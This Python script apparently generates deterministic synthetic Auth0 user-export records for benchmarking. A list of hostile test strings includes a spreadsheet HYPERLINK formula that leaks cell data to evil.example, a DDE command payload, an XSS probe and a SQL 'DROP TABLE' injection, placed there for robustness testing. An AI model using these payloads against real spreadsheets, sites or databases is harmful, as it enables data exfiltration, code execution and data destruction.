"""Deterministic generator of realistic Auth0 export users (NDJSON).

The records follow the shape in ../shared/AUTH0.md section 1.7 (the fields an export job returns for
user_id, email, ..., logins_count), with the mix a real tenant has: database and Google users,
users who never logged in, partial or missing metadata, accented and CJK names, and, at
``hostile_rate``, values that break naive tools (formula starts, quotes, commas, newlines, emoji,
null metadata, missing fields).

    python bench/generate.py -n 1000000 --seed 1 --dup-rate 0.01 --hostile-rate 0.02 -o users.ndjson

or, from Python, ``users(n, seed=1)``. The output depends only on the arguments: the same seed
gives the same bytes, and ``users(n)`` is a prefix of ``users(m)`` for n < m, so a small file is the
head of a large one.
"""

from __future__ import annotations

import argparse
import datetime
import gzip
import math
import os
import random
import sys
import unicodedata
from collections.abc import Iterator, Sequence
from typing import Any, Protocol

import orjson

# Pools are whitespace-separated so that each record only picks from them; names with accents, CJK
# and apostrophes are in the mix as in a real tenant.
_GIVEN_TEXT = """
James Mary John Patricia Robert Jennifer Michael Linda William Elizabeth David Barbara Richard
Susan Joseph Jessica Thomas Sarah Charles Karen Daniel Nancy Matthew Lisa Anthony Betty Mark
Margaret Donald Sandra Steven Ashley Paul Kimberly Andrew Emily Joshua Donna Kenneth Michelle
Kevin Carol Brian Amanda George Melissa Timothy Deborah Ronald Stephanie Jason Rebecca Edward
Sharon Jeffrey Laura Ryan Cynthia Jacob Amy Gary Kathleen Nicholas Angela Eric Shirley
Jonathan Anna Stephen Brenda Larry Pamela Justin Emma Scott Nicole Brandon Helen Benjamin
Samantha Samuel Katherine Gregory Christine Alexander Debra Frank Rachel Patrick Carolyn
Raymond Janet Jack Maria Dennis Olivia Jerry Heather Tyler Diane Aaron Julie Jose Joyce Adam
Victoria Nathan Ruth Henry Virginia Zachary Lauren Douglas Kelly Peter Christina Kyle Joan
Noah Evelyn Ethan Judith Jeremy Andrea Walter Hannah Christian Megan Keith Cheryl Roger
Jacqueline Terry Martha Austin Madison Sean Teresa Gerald Gloria Carl Sara Harold Janice Dylan
Ann Arthur Kathryn Lawrence Abigail Jordan Sophia Jesse Frances Bryan Jean Billy Alice Bruce
Judy Gabriel Isabella Joe Julia Logan Grace Alan Amber Juan Denise Albert Danielle Willie
Marilyn Elijah Beverly Wayne Charlotte Randy Natalie Vincent Theresa Mason Diana Roy Brittany
Ralph Doris Bobby Kayla Russell Alexis Bradley Lori Philip Marie Eugene Priya Wei Hiroshi Yuki
Aisha Omar Fatima Mohammed Ana Luis Sofia Mateo Lucas Lea Noor Arjun Ravi Chen Mei Kenji Sven
Ingrid Lars Olga Ivan Dmitri Aleksandra José Zoë Chloé Renée Søren Björn François Łukasz Ngọc
Åsa Jürgen Inés Mónica Ömer Çağla Siân Maël Nuño 翔太 美咲 伟 지민
"""
GIVEN_NAMES = _GIVEN_TEXT.split()
_FAMILY_TEXT = """
Smith Johnson Williams Brown Jones Garcia Miller Davis Rodriguez Martinez Hernandez Lopez
Gonzalez Wilson Anderson Thomas Taylor Moore Jackson Martin Lee Perez Thompson White Harris
Sanchez Clark Ramirez Lewis Robinson Walker Young Allen King Wright Scott Torres Nguyen Hill
Flores Green Adams Nelson Baker Hall Rivera Campbell Mitchell Carter Roberts Gomez Phillips
Evans Turner Diaz Parker Cruz Edwards Collins Reyes Stewart Morris Morales Murphy Cook Rogers
Gutierrez Ortiz Morgan Cooper Peterson Bailey Reed Kelly Howard Ramos Kim Cox Ward Richardson
Watson Brooks Chavez Wood James Bennett Gray Mendoza Ruiz Hughes Price Alvarez Castillo
Sanders Patel Myers Long Ross Foster Jimenez Powell Jenkins Perry Russell Sullivan Bell
Coleman Butler Henderson Barnes Gonzales Fisher Vasquez Simmons Romero Jordan Patterson
Alexander Hamilton Graham Reynolds Griffin Wallace West Cole Hayes Bryant Herrera Gibson Ellis
Tran Medina Aguilar Stevens Murray Ford Castro Marshall Owens Harrison Fernandez McDonald
Woods Washington Kennedy Wells Vargas Henry Chen Freeman Webb Tucker Guzman Burns Crawford
Olson Simpson Porter Hunter Gordon Mendez Silva Shaw Snyder Mason Dixon Munoz Hunt Hicks
Holmes Palmer Wagner Black Robertson Boyd Rose Stone Salazar Fox Warren Mills Meyer Rice
Schmidt Tanaka Suzuki Sato Wang Zhang Liu Singh Kumar Sharma Khan Ali Ivanov Petrov Novak
Jensen Hansen Larsen Nielsen Berg Johansson Andersson Kowalski Nowak Rossi Russo Bianchi
Dubois Moreau Weber Müller Schäfer Ødegård Núñez Peña Gonçalves Dvořák Wiśniewski Öztürk Løvik
Lefèvre Nguyễn O'Brien O'Connor D'Angelo 山田 佐藤 王 김
"""
FAMILY_NAMES = [*_FAMILY_TEXT.split(), "van der Berg", "de la Cruz"]

# Weighted by repetition: consumer mail dominates real tenants.
EMAIL_DOMAINS = (
    ["gmail.com"] * 12
    + ["yahoo.com"] * 3
    + ["outlook.com"] * 3
    + ["hotmail.com"] * 2
    + ["icloud.com"] * 2
    + ["proton.me", "aol.com", "gmx.de", "web.de", "yahoo.co.jp", "qq.com", "mail.ru"]
    + ["example.com", "acme.io", "globex.com", "initech.net", "umbrella-corp.co.uk", "stark.dev"]
)
_OTHER_COUNTRIES = "FR ES IT NL SE PL BR MX IN JP CN KR AU NZ CA ZA NG EG TR VN"
COUNTRIES = [
    *["US"] * 8,
    *["GB"] * 3,
    *["DE"] * 2,
    *_OTHER_COUNTRIES.split(),
]
LANGUAGES = ["en"] * 6 + ["es", "fr", "de", "pt-BR", "ja", "zh-CN", "it", "nl", "pl", "ko", "tr"]
PLANS = ["free"] * 6 + ["starter"] * 2 + ["pro"] * 2 + ["premium", "enterprise"]
ROLE_SETS = (
    [[]] * 3
    + [["user"]] * 5
    + [["user", "editor"]] * 2
    + [["admin"], ["admin", "billing"], ["viewer"], ["support", "user"]]
)
REGIONS = [
    "us-east-1",
    "us-west-2",
    "eu-west-1",
    "eu-central-1",
    "ap-southeast-2",
    "ap-northeast-1",
]
MIDDLE_INITIALS = "ABCDEFGHJKLMNPRSTW"

# Values that break naive CSV writers, spreadsheets and shell scripts.
HOSTILE_STRINGS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "+SUM(1,2)",
    "-10",
    "-2+3",
    "@SUM(A1:A9)",
    "@admin",
    "\tleading tab",
    "\rleading carriage return",
    'O"Brien',
    '"fully quoted"',
    "Doe, Jane",
    "Smith,\nJohn",
    "multi\nline\nname",
    "trailing newline\n",
    "crlf\r\ninside",
    "José Ñúñez-Álvarez",
    "Zoë Ødegård",
    "山田 太郎",
    "李小龙",
    "김지민",
    "🚀🔥 Emoji Person",
    "👩‍💻 Dev 🇳🇿",
    'Ünïcödé, "quoted"\nand newline',
    "",
    " ",
    "  padded  ",
    "'leading apostrophe",
    "''two apostrophes",
    "back\\slash",
    "tab\tinside",
    "line\u2028separator",
    "null",
    "true",
    "0123",
    "1e5",
    "NaN",
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE users;--",
    "a" * 300,
]
# Local parts that are valid in an email address but start with a formula character, or hold a
# quote or a comma.
HOSTILE_EMAIL_PREFIXES = ["=", "+", "-", "=cmd", "+tag+", "-dash-", 'o"brien.', '"a,b".', "josé."]
HOSTILE_STRING_FIELDS = ("name", "given_name", "family_name", "nickname")
DELETABLE_FIELDS = (
    "email",
    "email_verified",
    "name",
    "given_name",
    "family_name",
    "nickname",
    "picture",
    "identities",
    "app_metadata",
    "user_metadata",
    "updated_at",
    "last_ip",
)

EPOCH = datetime.datetime(2015, 1, 1, tzinfo=datetime.UTC)
EPOCH_MS = int(EPOCH.timestamp() * 1000)
SPAN_DAYS = 3800  # up to mid-2025
SPAN_MS = SPAN_DAYS * 86_400_000
DAY_STRINGS = [
    (EPOCH + datetime.timedelta(days=d)).strftime("%Y-%m-%d") for d in range(SPAN_DAYS + 400)
]
# Formatting three dates per record with strftime would dominate the run time; tables make it a
# couple of lookups.
HOUR_PREFIXES = [f"{day}T{hour:02d}:" for day in DAY_STRINGS for hour in range(24)]
MINUTES_SECONDS = [f"{minute:02d}:{second:02d}" for minute in range(60) for second in range(60)]

# An odd multiplier that is not a multiple of 5 permutes 0..10**8-1, so the tags below are unique
# (and look random) without remembering the emails already issued.
EMAIL_TAG_MODULUS = 10**8
EMAIL_TAG_MULTIPLIER = 48_271_137
EMAIL_TAG_OFFSET = 12_345_679
RECENT_EMAILS = 4096


def iso_ms(epoch_ms: int) -> str:
    """Format milliseconds since the Unix epoch as Auth0 does: 2021-09-16T03:24:32.897Z."""
    hour, rest = divmod(epoch_ms - EPOCH_MS, 3_600_000)
    seconds, millis = divmod(rest, 1000)
    return f"{HOUR_PREFIXES[hour]}{MINUTES_SECONDS[seconds]}.{millis:03d}Z"


def email_tag(index: int) -> int:
    if index >= EMAIL_TAG_MODULUS:
        return index  # beyond the permutation: 9+ digits, so still distinct from every permuted tag
    return (index * EMAIL_TAG_MULTIPLIER + EMAIL_TAG_OFFSET) % EMAIL_TAG_MODULUS


def ascii_slug(text: str) -> str:
    # NFKD splits "é" into "e" and an accent, so José gives jose; what has no ASCII form is dropped.
    decomposed = unicodedata.normalize("NFKD", text.lower())
    slug = "".join(c for c in decomposed if c.isascii() and c.isalnum())
    return slug or "user"


def users(
    n: int,
    *,
    seed: int = 1,
    dup_rate: float = 0.0,
    hostile_rate: float = 0.01,
    google_rate: float = 0.2,
) -> Iterator[dict[str, Any]]:
    """Yield ``n`` export-shaped user records, the same ones for the same arguments.

    dup_rate: share of users whose email repeats an earlier user's (the same person on two
    connections). hostile_rate: share of users given one or two hostile values (see HOSTILE_STRINGS)
    or a missing field or null metadata. google_rate: share of ``google-oauth2|`` users.
    """
    # Checked here, not in the generator body, so a bad argument fails at the call.
    if n < 0:
        raise ValueError("n must be >= 0")
    for name, rate in (
        ("dup_rate", dup_rate),
        ("hostile_rate", hostile_rate),
        ("google_rate", google_rate),
    ):
        if not 0.0 <= rate <= 1.0:
            raise ValueError(f"{name} must be between 0 and 1")
    return _generate(n, seed, dup_rate, hostile_rate, google_rate)


def _generate(
    n: int, seed: int, dup_rate: float, hostile_rate: float, google_rate: float
) -> Iterator[dict[str, Any]]:
    rng = random.Random(seed)
    rand = rng.random
    bits = rng.getrandbits

    def pick(pool: Sequence[Any]) -> Any:
        # A third of the cost of rng.choice, which matters at a dozen picks per record.
        return pool[int(rand() * len(pool))]

    # Slugs are computed once per pool entry rather than once per record.
    given_pool = [(g, ascii_slug(g)) for g in GIVEN_NAMES]
    family_pool = [(f, ascii_slug(f)) for f in FAMILY_NAMES]
    recent_emails: list[str] = []
    log = math.log

    for index in range(n):
        given, given_slug = pick(given_pool)
        family, family_slug = pick(family_pool)
        domain = pick(EMAIL_DOMAINS)
        tag = email_tag(index)
        style = bits(2)
        if style == 0:
            local = f"{given_slug}.{family_slug}{tag}"
        elif style == 1:
            local = f"{given_slug[0]}{family_slug}{tag}"
        elif style == 2:
            local = f"{given_slug}_{tag}"
        else:
            local = f"{family_slug}.{given_slug}.{tag}"
        email = f"{local}@{domain}"
        if dup_rate and recent_emails and rand() < dup_rate:
            email = pick(recent_emails)
            local = email.partition("@")[0]
        elif len(recent_emails) < RECENT_EMAILS:
            recent_emails.append(email)
        else:
            recent_emails[index % RECENT_EMAILS] = email

        # Later sign-ups are more common (tenants grow): skew the creation date toward the end.
        created = EPOCH_MS + int(rand() ** 0.6 * SPAN_MS) + bits(10)
        created_s = created // 1000
        full_name = f"{given} {family}"
        is_google = rand() < google_rate

        if is_google:
            bare_id = f"1{bits(64) % 10**20:020d}"
            record: dict[str, Any] = {
                "user_id": f"google-oauth2|{bare_id}",
                "email": email,
                "email_verified": True,
                "name": full_name,
                "given_name": given,
                "family_name": family,
                "nickname": local,
                "picture": f"https://lh3.googleusercontent.com/a/ACg8ocK{bits(120):030x}=s96-c",
                "identities": [
                    {
                        "connection": "google-oauth2",
                        "provider": "google-oauth2",
                        "user_id": bare_id,
                        "isSocial": True,
                    }
                ],
            }
        else:
            # Mongo-style ObjectId, as Auth0 database users have: creation time, then random bits.
            bare_id = f"{created_s & 0xFFFFFFFF:08x}{bits(64):016x}"
            has_profile = rand() < 0.6
            initials = (given_slug[0] + family_slug[0]) if has_profile else local[:2]
            record = {
                "user_id": f"auth0|{bare_id}",
                "email": email,
                "email_verified": rand() < 0.8,
                # Without a profile, Auth0 fills name with the email address.
                "name": full_name if has_profile else email,
            }
            if has_profile:
                record["given_name"] = given
                record["family_name"] = family
            record["nickname"] = local
            record["picture"] = (
                f"https://s.gravatar.com/avatar/{bits(128):032x}?s=480&r=pg"
                f"&d=https%3A%2F%2Fcdn.auth0.com%2Favatars%2F{initials}.png"
            )
            record["identities"] = [
                {
                    "connection": "Username-Password-Authentication",
                    "provider": "auth0",
                    "user_id": bare_id,
                    "isSocial": False,
                }
            ]

        shape = rand()
        if shape < 0.08:
            pass  # no app_metadata at all
        elif shape < 0.15:
            record["app_metadata"] = {}
        else:
            app_metadata: dict[str, Any] = {"plan": pick(PLANS), "roles": pick(ROLE_SETS)}
            if shape > 0.8:
                app_metadata["billing"] = {
                    "customer_id": f"cus_{bits(56):014x}",
                    "seats": 1 + bits(5),
                    "trial": {"active": shape > 0.95, "ends_at": iso_ms(created + 14 * 86_400_000)},
                }
                app_metadata["tenant"] = {"id": f"org_{bits(48):012x}", "region": pick(REGIONS)}
            record["app_metadata"] = app_metadata

        shape = rand()
        if shape >= 0.15:
            user_metadata: dict[str, Any] = {}
            if shape >= 0.45:
                user_metadata["name"] = (
                    f"{given} {pick(MIDDLE_INITIALS)}. {family}" if shape >= 0.9 else full_name
                )
            user_metadata["country"] = pick(COUNTRIES)
            if shape < 0.95:
                user_metadata["preferences"] = {
                    "newsletter": shape < 0.5,
                    "language": pick(LANGUAGES),
                }
            record["user_metadata"] = user_metadata

        record["created_at"] = iso_ms(created)
        if rand() < 0.05:
            # Imported or invited but never logged in: Auth0 has no login fields for them.
            record["updated_at"] = iso_ms(created + bits(20))
        else:
            remaining = EPOCH_MS + SPAN_MS - created
            last_login = created + int(rand() * remaining)
            record["updated_at"] = iso_ms(last_login + bits(2))
            record["last_login"] = iso_ms(last_login)
            address = bits(32)
            if address & 0xF == 0:
                record["last_ip"] = (
                    f"2a02:{address >> 16:x}:{address & 0xFFFF:x}:{bits(16):x}::{bits(16):x}"
                )
            else:
                record["last_ip"] = (
                    f"{1 + (address >> 24) % 223}.{(address >> 16) & 255}"
                    f".{(address >> 8) & 255}.{address & 255}"
                )
            # Heavy-tailed, as real login counts are: most users log in a few times, some daily.
            record["logins_count"] = 1 + int(-log(1.0 - rand()) * 12)

        if hostile_rate and rand() < hostile_rate:
            make_hostile(record, rng, tag)
        yield record


def make_hostile(record: dict[str, Any], rng: random.Random, tag: int) -> None:
    """Apply one or two hostile edits to ``record`` in place."""
    for _ in range(1 + rng.getrandbits(1)):
        kind = rng.getrandbits(3)
        if kind <= 2:
            record[rng.choice(HOSTILE_STRING_FIELDS)] = rng.choice(HOSTILE_STRINGS)
        elif kind == 3:
            user_metadata = record.get("user_metadata")
            if isinstance(user_metadata, dict):
                user_metadata["name"] = rng.choice(HOSTILE_STRINGS)
            else:
                record["user_metadata"] = {"name": rng.choice(HOSTILE_STRINGS)}
        elif kind == 4 and "email" in record:
            domain = record["email"].rpartition("@")[2]
            # Keeps the numeric tag, so hostile emails stay distinct from every other email.
            record["email"] = f"{rng.choice(HOSTILE_EMAIL_PREFIXES)}{tag}@{domain}"
        elif kind == 5:
            record.pop(rng.choice(DELETABLE_FIELDS), None)
        elif kind == 6:
            record[rng.choice(("user_metadata", "app_metadata"))] = None
        else:
            record.setdefault("app_metadata", {})
            if isinstance(record["app_metadata"], dict):
                record["app_metadata"]["notes"] = rng.choice(HOSTILE_STRINGS)
                record["app_metadata"]["deep"] = {"a": {"b": {"c": [1, "two", None, {"d": True}]}}}


class BinaryWriter(Protocol):
    def write(self, data: bytes, /) -> object: ...


def write(
    records: Iterator[dict[str, Any]],
    out: BinaryWriter,
    *,
    array: bool = False,
    batch_size: int = 2000,
) -> int:
    """Write records as NDJSON (or a JSON array, one record per line) and return how many."""
    dumps = orjson.dumps
    count = 0
    separator = b",\n" if array else b"\n"
    if array:
        out.write(b"[\n")
    batch: list[bytes] = []
    for record in records:
        batch.append(dumps(record))
        if len(batch) >= batch_size:
            if count:
                out.write(separator)
            out.write(separator.join(batch))
            count += len(batch)
            batch.clear()
    if batch:
        if count:
            out.write(separator)
        out.write(separator.join(batch))
        count += len(batch)
    if array:
        out.write(b"\n]\n" if count else b"]\n")
    elif count:
        out.write(b"\n")
    return count


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("-n", type=int, default=1000, help="number of users (default 1000)")
    parser.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    parser.add_argument(
        "--dup-rate", type=float, default=0.0, help="share of repeated emails (default 0)"
    )
    parser.add_argument(
        "--hostile-rate",
        type=float,
        default=0.01,
        help="share of users with hostile values (default 0.01)",
    )
    parser.add_argument(
        "--google-rate", type=float, default=0.2, help="share of google-oauth2 users (default 0.2)"
    )
    parser.add_argument(
        "--format",
        choices=("ndjson", "array"),
        default="ndjson",
        help="ndjson (default) or one JSON array with a record per line",
    )
    parser.add_argument(
        "-o", "--output", help="output file (default stdout); a .gz name is gzip-compressed"
    )
    args = parser.parse_args(argv)
    try:
        records = users(
            args.n,
            seed=args.seed,
            dup_rate=args.dup_rate,
            hostile_rate=args.hostile_rate,
            google_rate=args.google_rate,
        )
        array = args.format == "array"
        if args.output is None:
            write(records, sys.stdout.buffer, array=array)
            sys.stdout.buffer.flush()
        elif args.output.endswith(".gz"):
            # mtime=0 keeps the gzip header, and so the file, identical between runs.
            with (
                open(args.output, "wb") as raw,
                gzip.GzipFile(fileobj=raw, mode="wb", mtime=0) as compressed,
            ):
                write(records, compressed, array=array)
        else:
            with open(args.output, "wb") as out:
                write(records, out, array=array)
    except ValueError as error:
        parser.error(str(error))
    except BrokenPipeError:
        # `generate.py | head` is normal use; point stdout at devnull so the exit flush stays quiet.
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
    return 0


if __name__ == "__main__":
    sys.exit(main())
